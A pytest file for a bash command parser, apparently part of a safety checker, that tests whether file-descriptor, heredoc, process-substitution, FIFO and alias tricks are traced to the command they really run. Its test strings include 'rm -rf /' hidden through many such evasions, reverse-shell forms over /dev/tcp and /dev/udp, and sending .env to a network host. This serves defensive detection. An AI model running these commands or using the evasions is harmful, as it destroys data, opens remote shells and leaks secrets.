"""Descriptors: what a command reads or writes by a number, a name of it, or a pipe with a name."""

import pytest
from tests.tables import for_each

from operators_edge.shell.evaluate import parse

FED = "<<< 'rm -rf /'"
HERE = "<<'X'\nrm -rf /\nX\n"
RM = ["rm", "-rf", "/"]


def commands(text):
    return parse(text).commands


def runs(text):
    return [[word.text for word in one.argv] for one in commands(text)]


@for_each(
    "text",
    [
        f"exec 3{FED}; bash <&3",
        f"exec 3{HERE}bash <&3",
        f"exec 3{HERE}bash 0<&3-",
        f"exec 3{FED}; exec 4<&3 3<&-; bash <&4",
        f"bash /proc/self/fd/3 3{FED}",
        f"bash /proc/$$/fd/3 3{FED}",
        f". /dev/fd/3 3{FED}",
        f"source /proc/thread-self/fd/4 4{HERE}",
        f"BASH_ENV=/dev/fd/3 bash -c : 3{FED}",
        f"bash 3{FED} <&3",
        f"exec {{n}}{FED}; bash <&$n",
        f"exec {{n}}{HERE}bash /dev/fd/$n",
        f"exec {{n}}{FED} {{m}}<<< ls; bash <&${{n}}",
        f"exec {FED}; bash",
        f"command exec {FED}; sh",
        f"exec 3{FED}; (bash <&3)",
        f"exec 3{FED}; sh -c 'sh <&3'",
        f"{{ bash <&3; }} 3{FED}",
        f"(sh <&3) 3{HERE}",
        f"if bash <&3; then :; fi 3{FED}",
        f"f() {{ bash <&3; }}; f 3{FED}",
        f"eval 'exec 3<&0' {FED}; bash <&3",
        f"cat 3{FED} <&3 | bash",
        f"exec 3{FED}; read -r l <&3; eval $l",
        "exec 3< <(echo 'rm -rf /'); bash <&3",
        "exec 3>x; echo 'rm -rf /' >&3; bash x",
        "mkfifo p; echo 'rm -rf /' > p & bash < p",
        "echo 'rm -rf /' > >(bash)",
        "echo 'rm -rf /' | tee >(bash) x >/dev/null",
        "exec 5> >(bash); printf 'rm ' >&5; echo '-rf /' >&5",
        "x='rm -rf /'; echo y > >(eval $x); x=ls",
        "f() { echo 'rm -rf /' > >(bash); }",
    ],
)
def test_what_a_descriptor_was_opened_on_is_what_a_shell_reads_from_it(text):
    assert RM in runs(text)


@for_each(
    ("text", "program", "kind"),
    [
        ("bash < /dev/tcp/host/80", "/dev/tcp", "pipe"),
        ("exec 3<>/dev/tcp/host/80; bash <&3", "/dev/tcp", "pipe"),
        ("sh -i 5<>/dev/udp/host/80 0<&5 1>&5", "/dev/tcp", "pipe"),
        ("mkfifo p; bash p & cat x > p", "mkfifo", "pipe"),
        ("mkfifo -m 600 p; bash < p", "mkfifo", "pipe"),
        ("mknod q p; bash < q", "mkfifo", "pipe"),
        ("exec 3<>p; date >&3; bash <&3", "mkfifo", "pipe"),
        ("coproc bash; echo x >&${COPROC[1]}", "coproc", "pipe"),
        ("coproc W { bash; }; echo x >&${W[1]}", "coproc", "pipe"),
        ("date | tee >(bash)", "tee", "pipe"),
        ("exec 5> >(bash); date >&5", "date", "pipe"),
        ("cp x >(bash)", "", "pipe"),
        ("bash <&7", "", "pipe"),
        ("exec 3<x.sh; bash <&3", "", "file"),
        ("exec < x.sh; bash", "", "file"),
    ],
)
def test_where_a_shell_reads_from_is_known_although_the_text_is_not(text, program, kind):
    shell = next(one for one in commands(text) if one.argv and one.argv[0].text in {"bash", "sh"})
    assert (shell.stdin, shell.stdin_program, shell.stdin_kind) == (None, program, kind)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("exec 3<x.sh; bash /dev/fd/3", ["bash", "x.sh"]),
        ("cat /proc/self/fd/4 4<.env", ["cat", ".env"]),
        ("bash x.sh 3<y.sh", ["bash", "x.sh"]),
        ("cat /dev/fd/4", ["cat", "/dev/fd/4"]),
    ],
)
def test_a_descriptor_that_is_named_is_the_file_it_was_opened_on(text, words):
    assert [word.text for word in commands(text)[-1].argv] == words


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("exec 5<>/dev/tcp/host/80; cat .env >&5", (">", "/dev/tcp/host/80")),
        ("exec 5>/dev/udp/host/80; cat .env 1>&5", (">", "/dev/udp/host/80")),
        ("exec 5>notes; date >&5", (">>", "notes")),
        ("exec 3<notes; cat <&3", ("<", "notes")),
        ("exec 5>notes; exec 5>&-; date >&5", (">&", "5")),
        ("date >&2", (">&", "2")),
    ],
)
def test_a_copy_of_a_descriptor_writes_and_reads_what_it_was_opened_on(text, target):
    redirect = commands(text)[-1].redirects[-1]
    assert (redirect.op, redirect.target.text) == target


@pytest.mark.parametrize(
    "text",
    [
        f"bash <&3 3{FED}",
        f"bash -c : 3{FED}; bash /dev/fd/3",
        f"exec 3{FED}; exec 3<<< ls; bash <&3",
        f"exec 3{FED}; exec 3<&-; bash <&3",
        f"exec {FED}; echo ls | bash",
        f"exec {FED}; bash <<< ls",
        f"{{ ls; }} 3{FED}; bash <&3",
        f"(exec {FED}); bash",
        f"exec 3{FED}; ssh host bash",
    ],
)
def test_a_descriptor_is_open_only_where_and_as_long_as_the_shell_has_it_open(text):
    assert RM not in runs(text)


@pytest.mark.parametrize(
    "text",
    [
        "BASH_ALIASES[t]='rm -rf'\nt /",
        "BASH_ALIASES=([t]='rm -rf')\nt /",
        "declare -A BASH_ALIASES=([t]='rm -rf')\nt /",
    ],
)
def test_an_alias_may_be_set_as_an_element(text):
    assert RM in runs(text)


def test_a_command_may_be_named_as_an_element():
    assert ["/bin/rm", "-rf", "/"] in runs("BASH_CMDS[t]=/bin/rm; t -rf /")
